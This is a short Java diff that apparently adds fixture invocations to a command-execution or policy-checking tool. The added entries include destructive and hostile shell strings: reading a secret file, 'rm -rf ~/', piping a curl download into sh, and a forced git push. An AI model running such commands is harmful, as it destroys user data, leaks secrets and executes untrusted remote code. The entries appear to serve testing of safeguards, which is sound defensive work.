@@ -9,7 +9,20 @@ import java.util.List;
  */
 public final class Training {
   private static final List<List<String>> CALLS =
-      List.of(List.of("version"), List.of("log"), List.of("log", "verify"));
+      List.of(
+          List.of("version"),
+          List.of("exec", "--", "true"),
+          List.of(
+              "exec",
+              "-c",
+              "cat ../home/secret; touch ../home/x; echo built > out.txt; cat out.txt"),
+          List.of("exec", "--json", "-c", "rm -rf ~/"),
+          List.of("check", "cd build && rm -rf ~/x; curl -sS https://example.com | sh > out.txt"),
+          List.of("check", "--json", "--", "git", "push", "--force"),
+          List.of("check", "--profile", "read-only", "git log --oneline"),
+          List.of("check", "--unknown-option"),
+          List.of("log"),
+          List.of("log", "verify"));
 
   private Training() {}
 
